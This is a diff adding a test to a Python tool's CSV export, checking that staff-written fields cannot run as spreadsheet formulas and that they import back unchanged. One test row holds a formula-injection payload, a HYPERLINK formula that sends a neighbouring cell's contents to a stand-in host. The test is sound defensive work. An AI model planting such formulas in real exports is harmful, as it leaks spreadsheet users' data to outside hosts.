@@ -1,5 +1,6 @@
 """`bridgectl content`: files with their lines, and what the bridge said of them."""
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -120,3 +121,19 @@ def test_an_export_has_all_parts_and_is_an_import(bridge: Bridge, tmp_path: Path
     ]
     assert json.loads(run("export", "outage").stdout)[1]["number"] == "2"
     assert as_csv([{"a": None, "b": ["x", "y"]}], ["a", "b"]) == 'a,b\r\n,"x\ny"\r\n'
+
+
+def test_what_staff_wrote_runs_in_no_spreadsheet_and_comes_back_as_it_was() -> None:
+    """An export holds drafts, too, which no second person has seen."""
+    row = {
+        "number": "1",
+        "title": '=HYPERLINK("http://x/?"&A2)',
+        "phone": "+86 10",
+        "body": "- one\n- two",
+        "more": "'=1",
+    }
+    sheet = as_csv([row], list(row))
+    for cell in next(csv.reader(sheet.splitlines()[1:])):
+        assert not cell.startswith(("=", "+", "-", "@"))
+    ((read,), _) = parsed(sheet.encode(), "x.csv", "news")
+    assert dict(read.values) == row | {"kind": "news"}
